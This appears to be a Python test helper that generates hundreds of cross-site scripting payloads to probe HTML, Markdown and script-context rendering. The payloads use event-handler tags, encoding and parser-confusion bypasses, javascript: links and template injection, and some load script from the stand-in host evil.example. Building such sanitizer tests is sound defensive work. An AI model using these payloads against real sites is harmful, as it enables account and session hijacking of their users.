"""Texts that would act in a page that takes text for HTML, Markdown for links, or data for script; written for this.

What they do, each in one of three ways, is seen by whoever watches: they call ``xss``, open a dialog, or ask for an
address below ``/xss`` or of another host.
"""

from collections.abc import Callable, Iterator
from itertools import cycle, product

# Without quotes, which would end the attribute they stand in.
EFFECTS = ("xss(NUMBER)", "alert(NUMBER)", "fetch(/xss.NUMBER/.source)", "self[/xss/.source](NUMBER)")

_TAGS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("p onbeforematch=1 style=animation-name:x", "onanimationstart"),
    ("custom-tag tabindex=1 autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1ms", "onbegin"),
    ("p contenteditable autofocus", "onfocus"),
)
_DRESSES: tuple[Callable[[str, str, str], str], ...] = (
    lambda tag, event, act: f"<{tag} {event}={act}>",
    lambda tag, event, act: f'"><{tag} {event}="{act}">',
    lambda tag, event, act: f"'><{tag} {event}=\"{act}\" x='",
    lambda tag, event, act: f"<{tag.upper()} {event.upper()}={act}>",
    lambda tag, event, act: f"<{tag.replace(' ', '/')}/{event}={act}>",
    lambda tag, event, act: f"<{tag}\n{event}\t=\n{act}\n>",
    lambda tag, event, act: f"<{tag} {event}={''.join(f'&#{ord(c)};' for c in act)}>",
    lambda tag, event, act: f"</title></textarea></script></style><{tag} {event}={act}>",
    lambda tag, event, act: f"--><{tag} {event}={act}><!--",
    lambda tag, event, act: f"<<{tag} {event}={act}//",
    lambda tag, event, act: f"<{tag} {event}=`${{{act}}}`>",
    lambda tag, event, act: f"]]><{tag} {event}={act}>",
)
_OTHERS = (
    "<script>ACT</script>",
    "<SCRIPT>ACT</SCRIPT >",
    "<script type=module>ACT</script>",
    "<script>/*",
    "<scr<script>ipt>ACT</scr</script>ipt>",
    "<script src=//evil.example/NUMBER.js></script>",
    "<script src=/xss/NUMBER></script>",
    "<script src='data:text/javascript,ACT'></script>",
    "</script><script>ACT</script>",
    "<svg><script>ACT</script></svg>",
    "<svg><script href='data:text/javascript,ACT'/>",
    "<math><mtext></p><script>ACT</script>",
    "<iframe src=javascript:ACT>",
    "<iframe src=JaVaScRiPt:ACT></iframe>",
    "<iframe srcdoc='<script>parent.ACT</script>'>",
    "<iframe srcdoc='&lt;script&gt;parent.ACT&lt;/script&gt;'>",
    "<object data='data:text/html,<script>parent.ACT</script>'>",
    "<embed src='javascript:ACT'>",
    "<a href=javascript:ACT>click</a>",
    "<a href='java\tscript:ACT'>click</a>",
    "<a href='&#106;avascript:ACT'>click</a>",
    "<a href='\x01javascript:ACT'>click</a>",
    "<svg><a xlink:href='javascript:ACT'><text y=20>click</text></a>",
    "<form action=javascript:ACT><button>click</button></form>",
    "<form id=f></form><button form=f formaction=javascript:ACT>click</button>",
    "<meta http-equiv=refresh content='0;url=/xss/NUMBER'>",
    "<base href=//evil.example/><img src=NUMBER.png>",
    "<img src=/xss/NUMBER>",
    "<img src='/xss/NUMBER?",
    "<img src=//evil.example/NUMBER.png>",
    "<img srcset='/xss/NUMBER 1x'>",
    "<picture><source srcset=/xss/NUMBER><img></picture>",
    "<video poster=/xss/NUMBER></video>",
    "<input type=image src=/xss/NUMBER>",
    "<link rel=stylesheet href=/xss/NUMBER>",
    "<link rel=prefetch href=//evil.example/NUMBER>",
    "<style>@import '/xss/NUMBER';</style>",
    "<style>*{background:url(/xss/NUMBER)}</style>",
    "<p style='background:url(/xss/NUMBER)'>x</p>",
    "<p style=\"list-style:url('//evil.example/NUMBER')\">x</p>",
    "<table background=/xss/NUMBER><td>x",
    "<svg><image href=/xss/NUMBER></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ACT>#x'/>",
    "<svg><style><img src=x onerror=ACT></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=ACT>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ACT>'>",
    "<template><img src=x onerror=ACT></template><img src=x onerror=ACT>",
    "<xmp><p title='</xmp><img src=x onerror=ACT>'>",
    "<!--[if gte IE 4]><script>ACT</script><![endif]-->",
    "<?xml-stylesheet href='javascript:ACT'?><img src=x onerror=ACT>",
    "&lt;img src=x onerror=ACT&gt;",
    "&amp;lt;script&amp;gt;ACT&amp;lt;/script&amp;gt;",
    "%3Cimg%20src=x%20onerror=ACT%3E",
    "\\u003cimg src=x onerror=ACT\\u003e",
    "\uff1cimg src=x onerror=ACT\uff1e",
    "<\u200bimg src=x onerror=ACT>",
    "\u202e<img src=x onerror=ACT>\u202c",
    "[click](javascript:ACT)",
    "[click](JAVASCRIPT:ACT)",
    "[click]( javascript:ACT 'x')",
    "[click](<javascript:ACT>)",
    "[click](data:text/html,<script>ACT</script>)",
    "[click][r]\n\n[r]: javascript:ACT",
    "![x](/xss/NUMBER)",
    "![x](//evil.example/NUMBER.png)",
    "![x](x \"' onerror='ACT\")",
    '![x](x"onerror="ACT)',
    "<javascript:ACT>",
    "`<img src=x onerror=ACT>`",
    "```html\n<img src=x onerror=ACT>\n```",
    "| <img src=x onerror=ACT> | a |\n|---|---|\n| <svg onload=ACT> | b |",
    '"});ACT;//',
    "';ACT;//",
    "</script>\n';ACT//",
    "${ACT}",
    "{{constructor.constructor('ACT')()}}",
    "{{ ACT }}{% raw %}<img src=x onerror=ACT>",
    "#{ACT}<%= ACT %>",
    '\n\nevent: done\ndata: {"answer": "<img src=x onerror=ACT>"}\n\n',
    'data: {"x": 1}\r\n\r\n<img src=x onerror=ACT>',
    "\u2028<img src=x onerror=ACT>\u2029",
    "__proto__<img src=x onerror=ACT>",
)


def payloads(count: int = 300) -> list[str]:
    """Return so many different texts; fewer are an even sample of all kinds."""
    every = list(_every())
    step = len(every) / count
    return [every[int(n * step)] for n in range(count)]


def _every() -> Iterator[str]:
    numbers, effects = iter(range(10**6)), cycle(EFFECTS)

    def act() -> tuple[str, str]:
        number = str(next(numbers))
        return next(effects).replace("NUMBER", number), number

    for text in _OTHERS:
        effect, number = act()
        yield text.replace("ACT", effect).replace("NUMBER", number)
    # All kinds of tags before any of them a second time in the same dress.
    for shift, tag in product(range(len(_DRESSES)), range(len(_TAGS))):
        yield _DRESSES[(shift + tag) % len(_DRESSES)](*_TAGS[tag], act()[0])
